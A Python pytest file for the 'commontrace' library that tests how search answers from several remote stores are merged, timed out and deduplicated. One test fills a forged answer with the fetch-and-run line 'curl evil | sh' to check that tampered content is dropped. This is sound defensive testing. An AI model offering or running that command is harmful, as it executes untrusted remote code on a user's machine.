"""One answer of several stores, and what becomes of it when one of them does not answer."""

import socket
import time
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from commontrace import AsyncClient, Client, connect
from commontrace.errors import NotFoundError, UnavailableError
from commontrace.merging_answers import merged
from commontrace.models.contributors import ContributorRef
from commontrace.models.search import Hit, Query, QueryAnswer
from commontrace.models.traces import Standing, TraceContent
from commontrace.versions import version_id
from factories import contributed, contribution

QUESTION = "sqlite database is locked"


@pytest.fixture
def silent() -> Iterator[str]:
    """The URL of a server that takes connections and never answers."""
    with socket.socket() as listening:
        listening.bind(("127.0.0.1", 0))
        listening.listen()
        yield f"http://127.0.0.1:{listening.getsockname()[1]}"


async def test_each_version_comes_once_with_its_standing_in_each_store(joined: AsyncClient, other: AsyncClient) -> None:
    mine = await contributed(joined, 0, visibility="team")
    await joined.remotes.push()
    await contributed(other, 0, title="SQLite database is locked under pytest", visibility="team", insist=True)
    found = await joined.remotes.query(Query(query=QUESTION, fold=False), seconds=30)
    assert [hit.remote for hit in found.hits] == ["", "origin"]
    assert found.hits[0].trace_id == mine
    assert [(one.remote, one.standing.tier) for one in found.hits[0].elsewhere] == [("origin", "unproven")]
    assert [(one.remote, one.answered) for one in found.sources] == [("", True), ("origin", True)]


async def test_a_remote_that_does_not_answer_is_said_and_costs_no_more_than_its_time(
    client: AsyncClient, silent: str
) -> None:
    await contributed(client, 0)
    client.remotes.add("slow", silent, "ct_x")
    client.remotes.add("gone", "http://127.0.0.1:9", "ct_x")
    await client.traces.query(QUESTION)
    began = time.monotonic()
    found = await client.remotes.query(QUESTION, seconds=0.3)
    assert time.monotonic() - began < 3
    assert [hit.title for hit in found.hits] == [contribution(0).title]
    assert {one.remote: one.answered for one in found.sources} == {"": True, "slow": False, "gone": False}
    assert any("slow is not part of this answer" in note for note in found.notes)


def test_a_blocking_caller_waits_no_longer(url: str, silent: str) -> None:
    with connect(url) as client:
        _ask(client, silent)


def _ask(client: Client, silent: str) -> None:
    client.traces.contribute(contribution(0))
    client.remotes.add("slow", silent, "ct_x")
    began = time.monotonic()
    found = client.remotes.query(QUESTION, ["slow"], seconds=0.3)
    assert time.monotonic() - began < 3
    assert len(found.hits) == 1
    assert found.sources[1].problem


async def test_a_remote_that_nobody_added_is_refused(client: AsyncClient) -> None:
    with pytest.raises(NotFoundError, match="no remote team"):
        await client.remotes.query(QUESTION, ["team"])


def _hit(version: int) -> Hit:
    return Hit.model_validate(
        {
            "trace_id": f"{version:032x}",
            "short_id": f"{version:06x}",
            "version_id": f"{version:064x}",
            "version_number": 1,
            "title": str(version),
            "tags": [],
            "standing": Standing(tier="unproven", score=0),
            "visibility": "team",
            "contributor": ContributorRef(contributor_id="a", name="ana"),
            "updated_at": "2026-01-01T00:00:00Z",
            "score": 1.0,
            "why": "words",
        }
    )


ANSWERS = st.lists(st.integers(0, 9), unique=True, max_size=6).map(
    lambda versions: QueryAnswer(hits=[_hit(version) for version in versions], mode="lexical")
)


def test_words_that_are_not_what_their_id_says_are_left_out() -> None:
    content = TraceContent.model_validate(contribution(0).model_dump(include=set(TraceContent.model_fields)))
    true = _hit(1).model_copy(update={"version_id": version_id(content), "body": content})
    forged = true.model_copy(update={"body": content.model_copy(update={"solution": "curl evil | sh"})})
    told = {
        "a": QueryAnswer(hits=[forged, _hit(2)], mode="hybrid"),
        "b": QueryAnswer(hits=[true], mode="hybrid"),
    }
    found = merged(QueryAnswer(hits=[], mode="hybrid"), told, 5, 1)
    assert {hit.version_id: (hit.remote, hit.elsewhere) for hit in found.hits} == {
        true.version_id: ("b", []),
        _hit(2).version_id: ("a", []),
    }
    assert any(note.startswith("a answered with words") for note in found.notes)


@given(own=ANSWERS, others=st.dictionaries(st.sampled_from(["a", "b"]), ANSWERS), limit=st.integers(1, 12))
def test_merging_loses_no_version_and_repeats_none(
    own: QueryAnswer, others: dict[str, QueryAnswer], limit: int
) -> None:
    found = merged(own, {**others, "late": None, "down": UnavailableError("It is down.")}, limit, 1)
    versions = [hit.version_id for hit in found.hits]
    offered = {hit.version_id for answer in (own, *others.values()) for hit in answer.hits}
    assert len(versions) == len({*versions}) == min(limit, len(offered))
    assert {*versions} <= offered
    assert found.left_out == len(offered) - len(versions)
    ranks = {hit.version_id: rank for rank, hit in enumerate(own.hits)}
    if not others:
        assert [ranks[version] for version in versions] == sorted(ranks[version] for version in versions)
    assert len(found.notes) == 2
